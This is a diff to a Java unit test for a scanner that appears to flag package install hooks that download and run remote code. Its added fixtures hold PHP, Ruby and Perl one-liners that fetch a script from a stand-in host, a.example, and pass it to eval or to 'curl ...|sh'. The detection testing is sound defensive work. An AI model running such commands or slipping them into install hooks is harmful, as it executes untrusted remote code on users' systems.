@@ -19,6 +19,7 @@ import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class HookFileRuleTest {
@@ -165,6 +166,36 @@ class HookFileRuleTest {
         assertThat(script("install.js", part.repeat(60_000 / part.length()))).isNotNull();
         assertThat(found(scan("p/package.json", hook("sh x.sh"), "p/x.sh", part.repeat(60_000 / part.length()))))
                 .isNotNull();
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '#',
+            value = {
+                "php i.php # <?php eval(file_get_contents(\"https://a.example/p\"));",
+                "php -q i.php # <?php $c = file_get_contents('https://a.example/p'); eval($c);",
+                "php i.php # <?php system(\"curl https://a.example/p|sh\");",
+                "ruby i.rb # system(\"curl https://a.example/p|sh\")",
+                "ruby i.rb # system \"curl https://a.example/p|sh\"",
+                "ruby i.rb # require 'open-uri'; eval(URI.open('https://a.example/p').read)",
+                "perl i.pl # system(\"curl https://a.example/p|sh\");",
+                "./i.pl # system 'curl https://a.example/p|sh';",
+            })
+    void programsOfOtherLanguagesAreJudged(String command, String program) {
+        String file = "p/" + command.substring(command.lastIndexOf(' ') + 1).replace("./", "");
+        assertThat(found(scan("p/package.json", hook(command), file, program)))
+                .singleElement()
+                .asString()
+                .endsWith("hook-runs-download");
+        assertThat(found(scan(
+                        "p/composer.json",
+                        "{\"name\": \"a/b\", \"scripts\": {\"post-install-cmd\": \"@" + command.replace("./", "perl ")
+                                + "\"}}",
+                        file,
+                        program)))
+                .hasSize(1);
+        assertThat(found(scan("p/package.json", hook(command), file, "print('curl https://a.example/p|sh')")))
+                .isEmpty();
     }
 
     @Test
